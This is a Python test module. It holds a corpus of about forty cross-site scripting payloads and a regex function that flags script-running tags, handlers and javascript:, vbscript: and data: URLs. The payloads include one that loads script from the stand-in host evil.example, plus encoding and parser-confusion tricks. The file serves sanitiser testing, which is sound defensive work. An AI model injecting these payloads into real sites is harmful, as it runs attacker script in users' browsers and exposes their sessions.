"""A corpus of XSS payloads, for tests that push them through sanitisers and pages.

Each one, rendered unescaped (or cleaned badly), would run script in the page. Collected from
the classic vectors: tags with handlers, script-bearing URLs, SVG/MathML namespace confusion,
comment and parser-differential (mutation XSS) tricks, encodings and broken markup.
"""

from __future__ import annotations

import html
import re

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert`1`>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="x:expression(alert(1))">x</p>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<link rel="stylesheet" href="javascript:alert(1)">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<style><img src="</style><img src=x onerror=alert(1)//">',
    "<textarea><script>alert(1)</script></textarea>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    '<a href="#" onclick="alert(1)">x</a>',
    "<b onmouseover=alert(1)>x</b>",
    "<<script>alert(1)//<</script>",
    '<img """><script>alert(1)</script>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "{{ 7*7 }}<script>alert(1)</script>",
]

_TAG = re.compile(r"<[^>]*>?")
_HANDLER = re.compile(r"<[^>]*\s(on[a-z]+|style)\s*=", re.IGNORECASE)
_SCRIPT_URL = re.compile(
    r"""(href|src|action|data|formaction)\s*=\s*["']?\s*(javascript|vbscript|data):""",
    re.IGNORECASE,
)
_DANGEROUS_TAG = re.compile(
    r"<\s*(script|iframe|object|embed|style|link|meta|base|form|input|svg|math|body|textarea)\b",
    re.IGNORECASE,
)


def dangerous(markup: str) -> list[str]:
    """What in `markup` would run script in a browser: live tags, handlers, script URLs."""
    found = [match.group(0) for match in _DANGEROUS_TAG.finditer(markup)]
    for tag in _TAG.findall(markup):
        # Browsers decode entities in attribute values and skip tabs and newlines inside a
        # URL's scheme; escaped text outside tags ("&lt;script&gt;") is only text.
        decoded = re.sub(r"[\t\n\r]", "", html.unescape(tag))
        found += [m.group(0) for p in (_HANDLER, _SCRIPT_URL) for m in p.finditer(decoded)]
    return found
